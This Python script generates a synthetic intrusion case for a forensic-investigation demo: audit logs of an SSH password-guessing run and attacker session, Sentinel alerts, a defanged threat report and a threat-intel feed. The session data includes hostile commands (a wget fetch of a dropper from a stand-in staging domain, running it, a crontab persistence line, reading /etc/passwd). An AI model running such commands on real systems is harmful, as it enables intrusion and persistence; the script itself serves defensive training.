#!/usr/bin/env python3
"""Writes the demo case: the evidence of one small intrusion, the story of the
"Step-by-Step Linux-Windows-Office Investigation" notebook, generated deterministically
(same bytes on every run and machine), so the demo needs nothing from outside the repo.

    examples/make_case.py OUT_DIR

The story (all times UTC, 2019-02-18):
  * 15:20-15:28  an SSH password-guessing run against host msticalertslxvm2 from three
                 addresses (61.184.247.3, 36.156.24.99, 223.111.139.247) and, slowly,
                 from 23.97.60.214;
  * 15:29:22     23.97.60.214 logs in as `ian` (USER_AUTH success, USER_LOGIN);
  * 15:31-15:40  in that session: reconnaissance (id, uname -a, cat /etc/passwd), a
                 download with wget from the attacker's staging host, chmod, the payload
                 run, a cron job for persistence, and a sudo to root;
  * meanwhile    the host's own cron and a legitimate admin from 10.0.0.5 go on;
  * alerts       Sentinel raised "SSH Anomalous Login ML" and "Detected suspicious file
                 download" (SecurityAlert rows, JSON lines, Entities as JSON text);
  * a threat report that names the attacker's IP (defanged), domain and payload hash,
  * a local threat-intel feed (CSV) with some of those indicators;
  * the host's /etc/passwd and /etc/group, copied off it with the logs (etc/), which
    name the uids the audit log writes as numbers (ian is 1000, alice 1001).

The audit log rotates: audit.log.2.gz (oldest, compressed), audit.log.1, audit.log; the
attacker's first command (`id`) straddles the rotation from audit.log.1 to audit.log,
and the wget event's last records arrive after the next event's, as real logs do.
"""
import gzip
import io
import json
import os
import random
import sys

HOST = "msticalertslxvm2"
ATTACKER = "23.97.60.214"
BRUTE = ["61.184.247.3", "36.156.24.99", "223.111.139.247"]
ADMIN = "10.0.0.5"
STAGING_DOMAIN = "update-checker.online"
PAYLOAD_URL = f"http://{STAGING_DOMAIN}/x/QuZYpObins.sh"
PAYLOAD_SHA256 = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0"
UNSET = 4294967295
T0 = 1550503200.0  # 2019-02-18T15:20:00Z


def hexs(s: str) -> str:
    return s.encode().hex().upper()


def needs_hex(s: str) -> bool:
    return any(c in s for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in s)


def audit_value(s: str) -> str:
    """auditd's rule: quote plain text, hex-encode what has spaces, quotes or controls."""
    return hexs(s) if needs_hex(s) else f'"{s}"'


class Log:
    def __init__(self):
        self.records = []  # (time, serial, text) in write order
        self.serial = 7400

    def stamp(self, t):
        self.serial += 1
        return f"audit({t:.3f}:{self.serial})"

    def add(self, t, stamp, rtype, body):
        self.records.append((t, f"type={rtype} msg={stamp}: {body}"))

    def ssh_auth(self, t, addr, acct, ok, pid):
        s = self.stamp(t)
        res = "success" if ok else "failed"
        self.add(t, s, "USER_AUTH",
                 f"pid={pid} uid=0 auid={UNSET} ses={UNSET} subj==unconfined msg='op=PAM:authentication "
                 f'acct="{acct}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res={res}\'')

    def ssh_login(self, t, addr, uid, ses, pid, ok=True):
        s = self.stamp(t)
        res = "success" if ok else "failed"
        self.add(t, s, "USER_LOGIN",
                 f"pid={pid} uid=0 auid={uid if ok else UNSET} ses={ses if ok else UNSET} subj==unconfined "
                 f"msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname={addr} addr={addr} "
                 f"terminal=/dev/pts/0 res={res}'")

    def execve(self, t, argv, uid, ses, pid, ppid, cwd, exe, tty="pts0", key="exec", late_path=False):
        s = self.stamp(t)
        comm = os.path.basename(exe)[:15]
        self.add(t, s, "SYSCALL",
                 f"arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a0 a1=55d1c2b8 a2=55d1c2d0 a3=0 "
                 f"items=2 ppid={ppid} pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} "
                 f"fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm=\"{comm}\" "
                 f"exe=\"{exe}\" subj==unconfined key=\"{key}\"")
        args = " ".join(f"a{i}={audit_value(a)}" for i, a in enumerate(argv))
        self.add(t, s, "EXECVE", f"argc={len(argv)} {args}")
        self.add(t, s, "CWD", f"cwd={audit_value(cwd)}")
        self.add(t, s, "PATH", f"item=0 name={audit_value(exe)} inode={1000 + pid % 977} dev=08:01 "
                 "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0")
        path1 = ("item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1582 dev=08:01 mode=0100755 ouid=0 "
                 "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0")
        proctitle = f"proctitle={hexs(chr(0).join(argv))}"
        if late_path:
            return (t, s, path1, proctitle)  # written by the caller after another event
        self.add(t, s, "PATH", path1)
        self.add(t, s, "PROCTITLE", proctitle)
        return None


def audit_log(rng: random.Random):
    log = Log()
    t = T0
    pid = 28100
    # The guessing run: bursts from the three scanners, a slow trickle from the attacker.
    users = ["root", "admin", "oracle", "test", "ubuntu", "postgres", "git", "ian"]
    while t < T0 + 9 * 60:
        addr = rng.choice(BRUTE) if rng.random() < 0.85 else ATTACKER
        pid += 1
        log.ssh_auth(t, addr, rng.choice(users), False, pid)
        if rng.random() < 0.1:  # sshd also closes the connection with a failed login record
            log.ssh_login(t + 0.002, addr, UNSET, UNSET, pid, ok=False)
        t += rng.uniform(0.8, 3.5)
        if rng.random() < 0.02:  # the host's own cron keeps running
            pid += 1
            log.execve(t, ["/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"],
                       0, 3, pid, 1200, "/root", "/bin/dash", tty="(none)", key="cron")
    # The attacker's successful login, then the session.
    t = 1550503762.301  # 2019-02-18T15:29:22.301Z
    pid += 1
    login_pid = pid
    log.ssh_auth(t - 0.2, ATTACKER, "ian", True, login_pid)
    log.ssh_login(t, ATTACKER, 1000, 12, login_pid)
    shell = login_pid + 1
    session = [
        (60, ["id"], "/usr/bin/id"),
        (71, ["uname", "-a"], "/bin/uname"),
        (85, ["cat", "/etc/passwd"], "/bin/cat"),
        (130, ["wget", PAYLOAD_URL, "-O", "/tmp/.x/QuZYpObins.sh"], "/usr/bin/wget"),
        (151, ["chmod", "+x", "/tmp/.x/QuZYpObins.sh"], "/bin/chmod"),
        (160, ["/bin/bash", "/tmp/.x/QuZYpObins.sh", "--install", "--quiet"], "/bin/bash"),
        (205, ["crontab", "-l"], "/usr/bin/crontab"),
        (230, ["bash", "-c", "(crontab -l; echo '*/5 * * * * /tmp/.x/QuZYpObins.sh --check') | crontab -"],
         "/bin/bash"),
        (300, ["sudo", "-n", "true"], "/usr/bin/sudo"),
        (420, ["ls", "-la", "/home/ian/My Documents"], "/bin/ls"),
    ]
    late = None
    for offset, argv, exe in session:
        pid += 2
        et = t + offset + rng.uniform(0, 0.9)
        pending = log.execve(et, argv, 1000, 12, pid, shell, "/home/ian", exe, late_path=(argv[0] == "wget"))
        if late is not None:
            # The wget event's last records arrive after the chmod event's.
            lt, ls, path1, proctitle = late
            log.add(lt, ls, "PATH", path1)
            log.add(lt, ls, "PROCTITLE", proctitle)
            late = None
        if pending:
            late = pending
    # The admin's routine check from inside the network.
    pid += 5
    log.ssh_auth(t + 500, ADMIN, "alice", True, pid)
    log.ssh_login(t + 500.1, ADMIN, 1001, 14, pid)
    log.execve(t + 512, ["systemctl", "status", "ssh"], 1001, 14, pid + 2, pid + 1, "/home/alice", "/bin/systemctl")
    return log.records


def write_audit(out, records):
    d = os.path.join(out, "audit")
    os.makedirs(d, exist_ok=True)
    lines = [text + "\n" for _, text in records]
    # Rotation points: the oldest third compressed; the live file starts in the middle
    # of the attacker's first command (its SYSCALL and EXECVE records are in .1).
    split = next(i for i, l in enumerate(lines) if l.startswith("type=EXECVE") and 'a0="id"' in l) + 1
    first = len(lines) // 3
    with open(os.path.join(d, "audit.log.2.gz"), "wb") as raw:
        # mtime=0 and no file name: the same bytes on every run
        with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, filename="") as gz:
            gz.write("".join(lines[:first]).encode())
    with open(os.path.join(d, "audit.log.1"), "w", newline="\n") as f:
        f.write("".join(lines[first:split]))
    with open(os.path.join(d, "audit.log"), "w", newline="\n") as f:
        f.write("".join(lines[split:]))


def entities(host_ip_account):
    host, ip, account = host_ip_account
    ents = [
        {"$id": "2", "HostName": host, "OSFamily": "Linux", "Type": "host"},
        {"$id": "3", "Address": ip, "Type": "ip"},
        {"$id": "4", "Name": account, "Host": {"$ref": "2"}, "Type": "account"},
    ]
    return json.dumps(ents, indent=2).replace("\n", "\r\n")


def alerts(out):
    common = {
        "TenantId": "52b1ab41-869e-4138-9e40-2a4457f09bf0",
        "ProviderName": "ASI Scheduled Alerts",
        "VendorName": "Microsoft",
        "ProductName": "Azure Sentinel",
        "Status": "New",
        "CompromisedEntity": "",
        "RemediationSteps": "",
        "ConfidenceLevel": "", "ConfidenceScore": None, "IsIncident": False,
        "ExtendedLinks": "", "SourceComputerId": "", "WorkspaceSubscriptionId": "",
        "WorkspaceResourceGroup": "", "ProcessingEndTime": "", "Type": "SecurityAlert",
    }
    rows = [
        dict(common, TimeGenerated="2019-02-18T15:31:02.104Z", DisplayName="SSH Anomalous Login ML",
             AlertName="SSH Anomalous Login ML", AlertSeverity="Medium", AlertType="SSH_Anomalous_Login",
             SystemAlertId="2e8a1f5b-8d4c-4d21-9a0b-5c1e36d7a001",
             Description=f"Anomalous login by ian from {ATTACKER} (Singapore) to {HOST}; "
                         "the account has not logged in from this location before.",
             StartTime="2019-02-18T15:29:22.301Z", EndTime="2019-02-18T15:29:22.301Z",
             Tactics="InitialAccess", Techniques="T1078",
             Entities=entities((HOST, ATTACKER, "ian")),
             ExtendedProperties=json.dumps({"Compromised Host": HOST, "Source IP": ATTACKER,
                                            "Query Period": "1.00:00:00"}, indent=2).replace("\n", "\r\n")),
        dict(common, TimeGenerated="2019-02-18T15:36:41.870Z", DisplayName="Detected suspicious file download",
             AlertName="Detected suspicious file download", AlertSeverity="Medium",
             AlertType="SuspiciousFileDownload", SystemAlertId="2e8a1f5b-8d4c-4d21-9a0b-5c1e36d7a002",
             Description=f"A process on {HOST} downloaded a file from a suspicious source: {PAYLOAD_URL} "
                         f"(sha256 {PAYLOAD_SHA256}).",
             StartTime="2019-02-18T15:31:32.000Z", EndTime="2019-02-18T15:31:33.000Z",
             Tactics="Execution", Techniques="T1105",
             Entities=entities((HOST, ATTACKER, "ian")),
             ExtendedProperties=json.dumps({"Compromised Host": HOST, "Suspicious Process": "/usr/bin/wget",
                                            "Command Line": f"wget {PAYLOAD_URL} -O /tmp/.x/QuZYpObins.sh",
                                            "Download Source": STAGING_DOMAIN},
                                           indent=2).replace("\n", "\r\n")),
    ]
    with open(os.path.join(out, "alerts.jsonl"), "w", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, separators=(",", ":"), ensure_ascii=False) + "\n")


def threat_report(out):
    text = f"""Threat report TR-2019-0218: SSH intrusions staging a cron miner

Summary. Since early February 2019 we have seen password-guessing campaigns against
internet-facing Linux hosts followed by the installation of a shell-script dropper. The
operator logs in from 23.97.60[.]214 once a guess succeeds, downloads the dropper from
hxxp://update-checker[.]online/x/QuZYpObins.sh and persists it with a cron entry that
runs every five minutes.

Indicators
  - Login source: 23.97.60[.]214 (also seen: 40.76.54[.]131)
  - Staging domain: update-checker[.]online
  - Dropper SHA-256: {PAYLOAD_SHA256}
  - Dropper MD5: 4d1d2b9c6e0e3f8a7b5c4d3e2f1a0b9c
  - Scanners: 61.184.247[.]3, 36.156.24[.]99, 223.111.139[.]247
  - Files: /tmp/.x/QuZYpObins.sh
  - Contact: abuse-reports[@]update-checker[.]online

The dropper exploits no vulnerability; CVE-2019-5736 (runc) was probed on two hosts but
not used. Version strings like 1.2.3.4.5 in the dropper's banner are not addresses.
"""
    with open(os.path.join(out, "threat_report.txt"), "w", newline="\n") as f:
        f.write(text)


def ti_feed(out):
    rows = [
        ("ip", ATTACKER, "SSH intrusion operator", "high", "2/18/2019"),
        ("ip", "61.184.247.3", "SSH scanner", "medium", "2/10/2019"),
        ("domainname", STAGING_DOMAIN, "dropper staging", "high", "2/18/2019"),
        ("sha256", PAYLOAD_SHA256, "cron miner dropper", "high", "2/18/2019"),
        ("url", PAYLOAD_URL, "dropper download", "high", "2/18/2019"),
    ]
    with open(os.path.join(out, "ti_feed.csv"), "w", newline="\n") as f:
        f.write("Type,Indicator,Description,Severity,DateAdded\n")
        for r in rows:
            f.write(",".join(r) + "\n")


def host_files(out):
    d = os.path.join(out, "etc")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "passwd"), "w", newline="\n") as f:
        f.write("root:x:0:0:root:/root:/bin/bash\n"
                "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin\n"
                "ian:x:1000:1000:Ian,,,:/home/ian:/bin/bash\n"
                "alice:x:1001:1001:Alice (admin),,,:/home/alice:/bin/bash\n")
    with open(os.path.join(d, "group"), "w", newline="\n") as f:
        f.write("root:x:0:\nsudo:x:27:alice\nian:x:1000:\nalice:x:1001:\n")


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "case")
    os.makedirs(out, exist_ok=True)
    rng = random.Random(20190218)
    write_audit(out, audit_log(rng))
    alerts(out)
    threat_report(out)
    ti_feed(out)
    host_files(out)


if __name__ == "__main__":
    main()
